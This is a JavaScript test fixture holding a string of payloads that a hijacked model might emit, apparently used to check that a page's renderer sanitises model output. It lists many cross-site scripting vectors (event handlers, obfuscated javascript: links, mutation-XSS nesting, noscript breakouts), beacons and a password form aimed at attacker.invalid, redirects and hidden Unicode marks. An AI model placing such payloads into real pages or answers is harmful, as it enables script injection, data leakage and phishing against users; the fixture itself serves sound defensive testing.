/**
 * What a hijacked model might send. Every trick tries to call `__pwn` in the page, to load something
 * from a host that does not exist, or to look like a part of the page.
 */
export const HOSTILE = `Nothing below may run, load or look like a part of this page.

<script>__pwn('script')</script>

<img src="https://attacker.invalid/pixel.png" onerror="__pwn('onerror')">

![beacon](https://attacker.invalid/beacon.png?secret=1)

<svg onload="__pwn('svg')"><a xlink:href="javascript:__pwn('xlink')"><text y="20">click</text></a></svg>

<math><mtext><table><mglyph><style><img src=x onerror="__pwn('mxss')"></style></mglyph></table></mtext></math>

<iframe src="javascript:__pwn('frame')"></iframe><object data="data:text/html,x"></object><embed src="data:text/html,x">

<style>body { display: none !important } @import url("https://attacker.invalid/style.css");</style>

<div style="position:fixed;inset:0;background:url(https://attacker.invalid/overlay.png)" onclick="__pwn('div')">overlay</div>

<form action="https://attacker.invalid/login"><input name="password" type="password" autofocus onfocus="__pwn('focus')"><button>Sign in</button></form>

<a href="javascript:__pwn('href')" id="location" name="cookie">a raw link</a>

[javascript](javascript:__pwn\`md\`) [upper case](JaVaScRiPt:__pwn()) [entity](&#106;avascript:__pwn())
[tab](java	script:__pwn()) [data](data:text/html;base64,PHNjcmlwdD5fX3B3bigpPC9zY3JpcHQ+) [vb](vbscript:__pwn())

[relative](/logout) [protocol-relative](//attacker.invalid/x) [one slash](https:/attacker.invalid)
[user info](https://bank.example@attacker.invalid/) [https://bank.example](https://attacker.invalid/)

[reference][evil] ![reference image][pixel] <https://attacker.invalid/auto> <javascript:__pwn('auto')>

[evil]: javascript:__pwn('reference') "title"
[pixel]: https://attacker.invalid/reference.png

\`\`\`html"><img/src/onerror=__pwn('info')>
</code></pre><script>__pwn('fence')</script>
\`\`\`

| <img src=x onerror="__pwn('cell')"> | \`<script>__pwn('code')</script>\` |
|---|---|
| <!--><img src=x onerror="__pwn('comment')">--> | <template><script>__pwn('template')</script></template> |

<noscript><p title="</noscript><img src=x onerror=__pwn('noscript')>"></noscript>

<x-pwn></x-pwn> <base href="https://attacker.invalid/"> <meta http-equiv="refresh" content="0;url=https://attacker.invalid/"> <link rel="stylesheet" href="https://attacker.invalid/link.css">

<details open ontoggle="__pwn('toggle')"><summary>more</summary></details> <video src="https://attacker.invalid/v.mp4" autoplay onloadstart="__pwn('video')"></video>

Hidden marks: a\u202Egnp.exe and \u{E0048}\u{E0069} between the words.

This line is harmless and must be readable.
`;
